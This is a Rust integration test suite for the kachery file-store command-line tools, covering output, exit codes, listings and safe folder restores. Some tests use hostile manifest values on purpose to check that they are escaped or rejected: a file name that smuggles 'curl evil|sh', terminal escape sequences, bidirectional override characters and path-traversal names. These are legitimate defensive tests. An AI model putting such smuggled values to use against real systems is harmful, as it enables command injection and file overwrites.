//! The commands that need no daemon, as scripts see them: standard output, exit codes, files.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test that cannot prepare itself fails")]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

struct Case {
    folder: tempfile::TempDir,
}

/// Exit code, standard output, standard error.
type Seen = (i32, String, String);

fn program(name: &str) -> &'static str {
    match name {
        "store" => env!("CARGO_BIN_EXE_kachery-store"),
        "load" => env!("CARGO_BIN_EXE_kachery-load"),
        "cat" => env!("CARGO_BIN_EXE_kachery-cat"),
        "info" => env!("CARGO_BIN_EXE_kachery-info"),
        "ls" => env!("CARGO_BIN_EXE_kachery-ls"),
        "load-dir" => env!("CARGO_BIN_EXE_kachery-load-dir"),
        other => panic!("no program {other}"),
    }
}

impl Case {
    fn new() -> Self {
        Case { folder: tempfile::tempdir().unwrap() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn file(&self, name: &str, content: &[u8]) -> PathBuf {
        std::fs::create_dir_all(self.path(name).parent().unwrap()).unwrap();
        std::fs::write(self.path(name), content).unwrap();
        self.path(name)
    }

    fn command(&self, name: &str, arguments: &[&str]) -> Command {
        let mut command = Command::new(program(name));
        command.args(arguments).current_dir(self.folder.path());
        command.env("KACHERY_STORAGE_DIR", self.path("root")).env_remove("KACHERY_STORAGE_DIR_ALT");
        command
    }

    fn run(&self, name: &str, arguments: &[&str]) -> Seen {
        seen(self.command(name, arguments))
    }

    /// Standard output of a run that succeeds.
    fn ok(&self, name: &str, arguments: &[&str]) -> String {
        let (code, out, err) = self.run(name, arguments);
        assert_eq!(code, 0, "{name} {arguments:?}: {err}");
        out
    }

    fn stored(&self, hash: &str) -> PathBuf {
        self.path("root/sha1").join(&hash[0..2]).join(&hash[2..4]).join(&hash[4..6]).join(hash)
    }
}

fn seen(mut command: Command) -> Seen {
    let output = command.output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
}

const HELLO: &str = "f572d396fae9206628714fb2ce00f72e94f2258f";

#[test]
fn storing_prints_names_as_the_original() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    case.file("d/x", b"x");
    assert_eq!(case.ok("store", &["a.txt"]), format!("sha1://{HELLO}/a.txt\n"));
    assert_eq!(case.ok("store", &["a.txt", "-a", "md5"]), "md5://b1946ac92492d2347c6235b4d2611184/a.txt\n");
    let both = case.ok("store", &["d", "d/", "a.txt"]);
    let lines: Vec<_> = both.lines().collect();
    assert!(lines[0].starts_with("sha1dir://") && lines[0].ends_with(".d"));
    assert_eq!(lines[1], lines[0].strip_suffix('d').unwrap());
    assert_eq!(lines[2], format!("sha1://{HELLO}/a.txt"));
    let (code, out, err) = case.run("store", &["nothing", "a.txt"]);
    assert_eq!((code, out), (1, format!("sha1://{HELLO}/a.txt\n")), "the others are stored all the same");
    assert!(err.contains("Not a file or directory: nothing"), "{err}");
}

#[test]
fn standard_input_is_stored() {
    let case = Case::new();
    let mut child =
        case.command("store", &["-"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"hello\n").unwrap();
    let out = child.wait_with_output().unwrap().stdout;
    assert_eq!(String::from_utf8(out).unwrap(), format!("sha1://{HELLO}/stdin\n"));
}

#[test]
fn loading_prints_the_path_or_the_destination() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    let uri = case.ok("store", &["a.txt"]);
    let uri = uri.trim_end();
    assert_eq!(case.ok("load", &[uri]), format!("{}\n", case.stored(HELLO).display()));
    assert_eq!(case.ok("load", &["a.txt"]), "a.txt\n");
    case.file("dest", b"older content");
    assert_eq!(case.ok("load", &[uri, "--dest", "dest"]), "dest\n");
    assert_eq!(std::fs::read(case.path("dest")).unwrap(), b"hello\n");
    std::fs::create_dir(case.path("inside")).unwrap();
    assert_eq!(case.ok("load", &[uri, "--dest", "inside/"]), "inside/a.txt\n");
    assert_eq!(case.ok("load", &[uri, "--dest", "-"]), "hello\n");
    let (code, out, err) = case.run("load", &[uri, "--dest", "inside"]);
    assert_eq!((code, out.as_str()), (1, ""), "a folder is never replaced: {err}");
    let missing = "sha1://0000000000000000000000000000000000000000/x";
    let (code, out, err) = case.run("load", &[missing]);
    assert_eq!((code, out.as_str()), (3, ""));
    assert!(err.contains("Unable to load file") && err.contains("kachery-p2p load"), "{err}");
}

#[test]
fn a_destination_is_not_touched_by_damaged_content() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    case.ok("store", &["a.txt"]);
    std::fs::write(case.stored(HELLO), b"jello\n").unwrap();
    case.file("out/dest", b"older content");
    let (code, out, err) = case.run("load", &[&format!("sha1://{HELLO}"), "--dest", "out/dest"]);
    assert_eq!((code, out.as_str()), (5, ""), "{err}");
    assert_eq!(std::fs::read(case.path("out/dest")).unwrap(), b"older content");
    assert_eq!(std::fs::read_dir(case.path("out")).unwrap().count(), 1, "nothing is left beside it");
}

#[test]
fn cat_writes_ranges_with_an_exclusive_end() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    let uri = case.ok("store", &["a.txt"]);
    let uri = uri.trim_end();
    assert_eq!(case.ok("cat", &[uri]), "hello\n");
    assert_eq!(case.ok("cat", &[uri, "--start", "1", "--end", "3"]), "el");
    assert_eq!(case.ok("cat", &["a.txt", "--start", "4"]), "o\n");
    let (code, out, err) = case.run("cat", &[uri, "--start", "4", "--end", "9"]);
    assert_eq!((code, out.as_str()), (1, ""));
    assert!(err.contains("Invalid start/end range for file of size 6: 4 - 9"), "{err}");
    let (code, _, err) = case.run("cat", &["sha1://abc"]);
    assert_eq!(code, 3);
    assert!(err.contains("Error loading file."), "{err}");
}

#[test]
fn info_is_the_json_of_the_original() {
    let case = Case::new();
    case.file("\u{fc}.txt", b"hello\n");
    case.ok("store", &["\u{fc}.txt"]);
    let path = case.stored(HELLO);
    let expected = format!(
        "{{\n    \"path\": \"{}\",\n    \"size\": 6,\n    \"sha1\": \"{HELLO}\"\n}}\n",
        path.display()
    );
    assert_eq!(case.ok("info", &[&format!("sha1://{HELLO}/x")]), expected);
    let plain = case.ok("info", &["\u{fc}.txt"]);
    assert_eq!(
        plain,
        format!("{{\n    \"path\": \"\\u00fc.txt\",\n    \"size\": 6,\n    \"sha1\": \"{HELLO}\"\n}}\n")
    );
    for missing in ["sha1://", "sha1:////x/y", "sha1://abc?x=1", "nothing"] {
        let (code, out, err) = case.run("info", &[missing]);
        assert_eq!((code, out.as_str()), (3, ""), "{missing}");
        assert!(err.contains("Error loading file."), "{err}");
    }
}

#[test]
fn ls_lists_folders_before_files() {
    let case = Case::new();
    for name in ["d/b", "d/A", "d/z/1", "d/c/2", "d/c/e/3"] {
        case.file(name, name.as_bytes());
    }
    std::fs::create_dir(case.path("empty")).unwrap();
    let uri = case.ok("store", &["d"]);
    let uri = uri.trim_end();
    for target in [uri, &format!("{uri}/"), "d"] {
        assert_eq!(case.ok("ls", &[target]), "c/\nz/\nA\nb\n", "{target}");
    }
    assert_eq!(case.ok("ls", &[&format!("{uri}/c")]), "e/\n2\n");
    assert_eq!(case.ok("ls", &["empty"]), "");
    for (target, message, exit) in [
        (format!("{uri}/nope"), "Error loading directory.", 3),
        (format!("{uri}/c//e"), "Error loading directory.", 3),
        (format!("sha1://{HELLO}"), "Not a directory: sha1://", 1),
    ] {
        let (code, out, err) = case.run("ls", &[&target]);
        assert_eq!((code, out.as_str()), (exit, ""), "{target}");
        assert!(err.contains(message), "{err}");
    }
}

#[test]
fn a_folder_comes_back_with_links_followed_and_cycles_and_pipes_left_out() {
    let case = Case::new();
    case.file("d/sub/a", b"a");
    case.file("outside", b"outside");
    std::os::unix::fs::symlink("../outside", case.path("d/link")).unwrap();
    std::os::unix::fs::symlink("..", case.path("d/sub/up")).unwrap();
    std::os::unix::fs::symlink("nowhere", case.path("d/dangling")).unwrap();
    assert!(Command::new("mkfifo").arg(case.path("d/pipe")).status().unwrap().success());
    let uri = case.ok("store", &["d"]);
    assert_eq!(case.ok("load-dir", &[uri.trim_end(), "--dest", "copy"]), "Done.\n");
    assert_eq!(std::fs::read(case.path("copy/link")).unwrap(), b"outside");
    assert!(case.path("copy/link").symlink_metadata().unwrap().is_file());
    assert_eq!(case.ok("ls", &["copy"]), "sub/\nlink\n");
    assert_eq!(case.ok("ls", &["copy/sub"]), "a\n");
    let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "copy"]);
    assert_eq!((code, out.as_str()), (1, ""));
    assert!(err.contains("Destination directory already exists: copy"), "{err}");
    assert_eq!(case.ok("load-dir", &["d/sub", "--dest", "plain", "--quiet"]), "Done.\n");
}

#[test]
fn files_of_a_folder_that_are_not_here_are_named() {
    let case = Case::new();
    case.file("d/a", b"hello\n");
    case.file("d/b", b"b");
    let uri = case.ok("store", &["d"]);
    std::fs::remove_file(case.stored(HELLO)).unwrap();
    let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "copy"]);
    assert_eq!((code, out.as_str()), (3, ""));
    assert!(err.contains(&format!("not here: {}/a (sha1://{HELLO})", uri.trim_end())), "{err}");
    assert!(err.contains(&format!("next: kachery-p2p load sha1://{HELLO} ")), "{err}");
    assert_eq!(std::fs::read(case.path("copy/b")).unwrap(), b"b");
}

#[test]
fn names_of_a_strangers_manifest_command_neither_the_shell_nor_the_terminal() {
    let case = Case::new();
    let manifest = r#"{"files": {
        "a;curl evil|sh": {"size": 6, "sha1": "f572d396fae9206628714fb2ce00f72e94f2258f"},
        "b\u001b[2J\nnext: evil": {"size": 6}}, "dirs": {}}"#;
    case.file("manifest", manifest.as_bytes());
    let uri = case.ok("store", &["manifest"]).replace("sha1://", "sha1dir://").replace("/manifest", "");
    let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "copy"]);
    assert_eq!((code, out.as_str()), (3, ""), "{err}");
    assert!(err.contains(&format!("next: kachery-p2p load sha1://{HELLO} ")), "{err}");
    assert!(err.contains(r"b\u{1b}[2J\nnext: evil") && !err.contains('\u{1b}'), "{err}");
    assert_eq!(err.matches("curl").count(), 1, "only where it says what is not here: {err}");
}

/// The name of the folder in the store whose manifest is this text.
fn folder_of(case: &Case, manifest: &str) -> String {
    case.file("manifest", manifest.as_bytes());
    let uri = case.ok("store", &["manifest"]);
    uri.trim_end().replace("sha1://", "sha1dir://").replace("/manifest", "")
}

#[test]
fn a_listing_shows_each_name_of_a_stranger_on_a_line_of_its_own() {
    let case = Case::new();
    let manifest = r#"{"files": {"a\nb": {"size": 1}, "\u001b]0;pwned\u0007\u001b[2J": {}, "\u009b2Jx": {},
        "gpj.\u202eexe": {}, "Größe": {}}, "dirs": {"d\r": {"files": {}, "dirs": {}}}}"#;
    let uri = folder_of(&case, manifest);
    let expected = "d\\r/\n\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\nGröße\na\\nb\ngpj.\\u{202e}exe\n\\u{9b}2Jx\n";
    assert_eq!(case.ok("ls", &[&uri]), expected);
    let json = case.ok("ls", &[&uri, "--json"]);
    assert!(json.trim_end().chars().all(|c| !c.is_control() && c != '\u{202e}'), "{json:?}");
    let names: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(names["files"][4], "\u{9b}2Jx", "JSON says the name itself");
}

#[test]
fn a_log_line_has_neither_commands_for_the_terminal_nor_colours_for_a_pipe() {
    let case = Case::new();
    case.file("d/a", b"a");
    std::os::unix::fs::symlink("nowhere", case.path("d/\u{1b}]0;pwned\n\u{202e}")).unwrap();
    let (code, _, err) = case.run("store", &["d"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains(r"\u{1b}]0;pwned\n\u{202e}"), "{err:?}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{202e}') && err.lines().count() == 1, "{err:?}");
}

#[test]
fn a_folder_that_cannot_be_written_as_a_whole_is_not_begun() {
    let case = Case::new();
    case.file("payload", b"hello\n");
    case.ok("store", &["payload"]);
    let file = format!(r#"{{"size": 6, "sha1": "{HELLO}"}}"#);
    let empty = r#"{"files": {}, "dirs": {}}"#;
    let both = format!(
        r#"{{"files": {{"a": {file}}}, "dirs": {{"d": {{"files": {{"x": {file}}}, "dirs": {{"x": {empty}}}}}}}}}"#
    );
    let name = "n".repeat(200);
    let long = (0..25).fold(empty.to_owned(), |inner, _| {
        format!(r#"{{"files": {{"a": {file}}}, "dirs": {{"{name}": {inner}}}}}"#)
    });
    for (manifest, why) in [(both, "a file and a folder have the same name: \"x\""), (long, "too long")] {
        let uri = folder_of(&case, &manifest);
        let (code, out, err) = case.run("load-dir", &[&uri, "--dest", "out"]);
        assert_eq!((code, out.as_str()), (1, ""), "{err:.300}");
        assert!(err.contains(why), "{err:.300}");
        assert!(!case.path("out").exists(), "half a folder was written");
    }
}

#[test]
fn an_empty_variable_is_one_that_is_not_set_and_others_are_read_alike() {
    let case = Case::new();
    case.file("a", b"hello\n");
    let set = |variables: &[(&str, &str)], words: &[&str]| {
        let mut command = case.command("store", words);
        command.envs(variables.iter().copied());
        seen(command)
    };
    let expected = format!("sha1://{HELLO}/a\n");
    for value in ["", "0", "no", "false"] {
        let booleans = ["JSON", "QUIET", "NO_PROGRESS", "USE_HARD_LINKS", "GIT_ANNEX_MODE"];
        let booleans = booleans.map(|name| format!("KACHERY_P2P_{name}"));
        let variables: Vec<_> = booleans.iter().map(|name| (name.as_str(), value)).collect();
        let (code, out, err) = set(&variables, &["a"]);
        assert_eq!((code, out.as_str()), (0, expected.as_str()), "{value:?}: {err}");
    }
    let (code, out, _) = set(&[("KACHERY_P2P_JSON", "1"), ("KACHERY_P2P_QUIET", "yes")], &["a"]);
    assert!(code == 0 && out.starts_with("{\"type\":\"result\""), "{out}");
    let (code, out, err) = set(&[("KACHERY_P2P_ALGORITHM", "")], &["a"]);
    assert_eq!((code, out.as_str()), (0, expected.as_str()), "{err}");
}

#[test]
fn a_hostile_manifest_writes_nothing() {
    let case = Case::new();
    case.file("payload", b"hello\n");
    case.ok("store", &["payload"]);
    let entry = format!(r#"{{"size": 6, "sha1": "{HELLO}"}}"#);
    for name in ["../escaped", "..", "/tmp/escaped", "a/../../escaped", "nul\\u0000", "", "."] {
        let in_dir = format!(
            r#"{{"files": {{}}, "dirs": {{"ok": {{"files": {{"{name}": {entry}}}, "dirs": {{}}}}}}}}"#
        );
        let as_dir = format!(
            r#"{{"files": {{}}, "dirs": {{"{name}": {{"files": {{"x": {entry}}}, "dirs": {{}}}}}}}}"#
        );
        for manifest in [in_dir, as_dir] {
            case.file("manifest", manifest.as_bytes());
            let uri =
                case.ok("store", &["manifest"]).replace("sha1://", "sha1dir://").replace("/manifest", "");
            let before = std::fs::read_dir(case.folder.path()).unwrap().count();
            let (code, out, err) = case.run("load-dir", &[uri.trim_end(), "--dest", "out"]);
            assert_eq!((code, out.as_str()), (1, ""), "{name}");
            assert!(err.contains("unsafe name"), "{err}");
            assert_eq!(std::fs::read_dir(case.folder.path()).unwrap().count(), before);
        }
    }
}

#[test]
fn git_annex_links_are_named_without_being_read() {
    let case = Case::new();
    std::fs::create_dir_all(case.path("d/.git/annex/objects")).unwrap();
    let name = "MD5E-s6--b1946ac92492d2347c6235b4d2611184.txt";
    let target = Path::new(".git/annex/objects").join(name);
    std::os::unix::fs::symlink(target, case.path("d/a.txt")).unwrap();
    let uri = case.ok("store", &["d", "--git-annex-mode"]);
    let manifest = case.ok("cat", &[&uri.trim_end().replace("sha1dir", "sha1")]);
    let expected =
        r#"{"files": {"a.txt": {"size": 6, "md5": "b1946ac92492d2347c6235b4d2611184"}}, "dirs": {}}"#;
    assert_eq!(manifest, expected);
}

#[test]
fn without_a_storage_folder_every_command_says_what_to_set() {
    let case = Case::new();
    case.file("a", b"a");
    let uri = format!("sha1://{HELLO}");
    for value in [None, Some("")] {
        for (name, argument) in [("store", "a"), ("load", &uri), ("cat", &uri), ("info", "a"), ("ls", &uri)] {
            let mut command = case.command(name, &[argument]);
            match value {
                None => command.env_remove("KACHERY_STORAGE_DIR"),
                Some(value) => command.env("KACHERY_STORAGE_DIR", value),
            };
            let (code, out, err) = seen(command);
            assert_eq!((code, out.as_str()), (2, ""), "{name}");
            assert!(err.contains("set KACHERY_STORAGE_DIR"), "{name}: {err}");
        }
    }
    let mut command = case.command("store", &["a", "--storage-dir", "other"]);
    command.env_remove("KACHERY_STORAGE_DIR");
    assert_eq!(seen(command).0, 0);
    assert!(case.path("other/sha1").exists());
}

#[test]
fn json_ends_with_one_result_or_error() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    let line: serde_json::Value = serde_json::from_str(&case.ok("store", &["a.txt", "--json"])).unwrap();
    assert_eq!((line["type"].as_str(), line["sha1"].as_str()), (Some("result"), Some(HELLO)));
    assert_eq!(line["how"], "copy");
    let (code, out, _) = case.run("load", &["sha1://abc", "--json"]);
    let line: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!((code, line["type"].as_str()), (3, Some("error")));
}

#[test]
fn the_alternate_root_is_searched_second() {
    let case = Case::new();
    case.file("a.txt", b"hello\n");
    case.ok("store", &["a.txt", "--storage-dir", "alternate"]);
    let mut command = case.command("load", &[&format!("sha1://{HELLO}")]);
    command.env("KACHERY_STORAGE_DIR_ALT", case.path("alternate"));
    let (code, out, _) = seen(command);
    assert_eq!(code, 0);
    assert!(Path::new(out.trim_end()).starts_with(case.path("alternate")));
    assert_eq!(case.run("load", &[&format!("sha1://{HELLO}")]).0, 3);
}

#[test]
fn many_processes_store_the_same_files_at_once() {
    let case = Case::new();
    for i in 0..4 {
        case.file(&format!("f{i}"), &vec![i; 1_500_000]);
    }
    let children: Vec<_> = (0..8)
        .map(|_| case.command("store", &["f0", "f1", "f2", "f3"]).stdout(Stdio::piped()).spawn().unwrap())
        .collect();
    let mut outputs: Vec<_> = children.into_iter().map(|c| c.wait_with_output().unwrap()).collect();
    outputs.dedup_by(|a, b| a.stdout == b.stdout && a.status.success() && b.status.success());
    assert_eq!(outputs.len(), 1);
    assert_eq!(std::fs::read_dir(case.path("root/kachery-p2p/tmp")).unwrap().count(), 0);
}
